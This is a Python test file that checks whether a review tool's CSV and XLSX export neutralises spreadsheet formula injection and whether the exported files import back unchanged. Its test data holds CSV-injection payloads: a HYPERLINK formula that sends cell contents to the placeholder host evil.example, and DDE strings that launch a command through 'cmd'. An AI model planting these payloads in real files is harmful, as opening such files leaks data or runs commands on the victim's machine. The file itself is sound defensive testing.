"""Cells a spreadsheet would run: `signoff export` writes every one of them (in the register and
the archive, CSV and XLSX) with a leading ', as OWASP recommends, so that Excel shows it as
text; and importing the exported file reads them back as they were, changing nothing."""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select

from bot.cli import main
from db.models import Document
from tests.adversarial.conftest import report
from tests.factories import APPROVER, NOW, Register, row
from workflow.reviews import decide, open_review, start_review, submit_draft
from workflow.states import Action

SUMMARY = "=1+1 and then some"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click for the policy")',
    "service_area": "+cmd|' /C calc'!A0",
    "version": "-2+3",
    "link": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def documents(runtime) -> dict[str, tuple[str | None, ...]]:  # type: ignore[no-untyped-def]
    with runtime.sessions() as session:
        return {
            d.reference: (d.title, d.service_area, d.version, d.link)
            for d in session.scalars(select(Document))
        }


def cells_of(path: Path) -> list[tuple[str, object]]:
    """Every cell of every sheet (or of the CSV file), named by where it is."""
    if path.suffix == ".csv":
        with path.open(newline="", encoding="utf-8") as handle:
            return [
                (f"{path.name}:{n}", cell)
                for n, cells in enumerate(csv.reader(handle), start=1)
                for cell in cells
            ]
    workbook = load_workbook(path)  # not data_only: a formula shows as its formula
    found = []
    for sheet in workbook.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                found.append((f"{sheet.title}!{cell.coordinate}", cell.value))
    return found


def test_exported_cells_that_a_spreadsheet_would_run_are_neutralised_and_round_trip(
    runtime, tmp_path
):
    register = Register(runtime)
    register.add(row("INJ-001", **PAYLOADS), row("SAFE-002", title="Safe Title", line=3))
    # An approved version whose summary and draft link are formulas, for the archive.
    review = open_review(register.ctx("system"), "INJ-001")
    start_review(register.ctx(register.owner_of("INJ-001")), review.id)
    submit_draft(
        register.ctx(register.owner_of("INJ-001")),
        review.id,
        link="https://drafts.example.org/inj-001",  # a draft's link must be a web address
        summary=SUMMARY,
    )
    decide(register.ctx(APPROVER), review.id, Action.APPROVE)
    stored = documents(runtime)

    exported = {}
    for name in ("register.csv", "register.xlsx"):
        target = tmp_path / name
        assert main(["--now", NOW.isoformat(), "export", "--archive", str(target)]) == 0
        exported[name] = target
    files = [*exported.values(), tmp_path / "register-archive.csv"]
    cells = [cell for path in files for cell in cells_of(path)]
    texts = [(where, value) for where, value in cells if isinstance(value, str)]
    dangerous = [(w, v) for w, v in texts if v.startswith(DANGEROUS)]
    neutralised = [(w, v) for w, v in texts if v[:1] == "'" and v[1:2] in DANGEROUS]

    round_trips = 0
    for path in exported.values():
        assert main(["--now", NOW.isoformat(), "import", str(path)]) == 0
        assert documents(runtime) == stored
        round_trips += 1
    report(
        "formula injection",
        {
            "files": len(files),
            "cells": len(cells),
            "neutralised": len(neutralised),
            "left dangerous": len(dangerous),
            "round trips unchanged": round_trips,
        },
    )
    assert dangerous == []
    # Each payload, in both register files; the summary in both archives.
    values = {v for _, v in neutralised}
    assert {"'" + v for v in stored["INJ-001"] if v} | {"'" + SUMMARY} <= values, values
    assert sum(1 for w, v in neutralised if v == "'" + SUMMARY) == 2
    assert round_trips == 2
    # As they were given, but the version, which the approval moved on.
    assert stored["INJ-001"][:2] == (PAYLOADS["title"], PAYLOADS["service_area"])
    assert stored["INJ-001"][2:] == ("-2+3.1", PAYLOADS["link"])
